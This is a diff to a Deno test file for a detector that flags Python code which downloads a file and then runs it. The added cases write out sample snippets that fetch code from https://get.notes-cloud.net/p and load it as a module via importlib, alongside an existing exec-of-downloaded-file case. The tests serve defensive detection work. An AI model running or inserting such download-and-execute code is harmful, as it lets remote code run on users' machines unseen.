@@ -1069,6 +1069,23 @@ Deno.test("downloaded data run by way of a file or a process is still run: writt
   );
   assert.deepEqual(flows("scripts/i.py", `${saved}exec(open("/tmp/p.py").read())\n`), [3]);
   assert.deepEqual(flows("scripts/j.py", `${saved}print(open("/tmp/p.py").read())\n`), []);
+  // Or loaded as a module by its path, wherever it was saved.
+  const loaded = "import importlib.machinery, importlib.util, urllib.request\n" +
+    'urllib.request.urlretrieve("https://get.notes-cloud.net/p", "plugin_dl.py")\n';
+  assert.deepEqual(
+    flows(
+      "scripts/k.py",
+      `${loaded}importlib.machinery.SourceFileLoader("p", "plugin_dl.py").load_module()\n`,
+    ),
+    [3],
+  );
+  assert.deepEqual(
+    flows(
+      "scripts/l.py",
+      `${loaded}spec = importlib.util.spec_from_file_location("p", "plugin_dl.py")\n`,
+    ),
+    [3],
+  );
   // curl started as a process, its output fed to a shell's stdin.
   assert.deepEqual(
     flows(
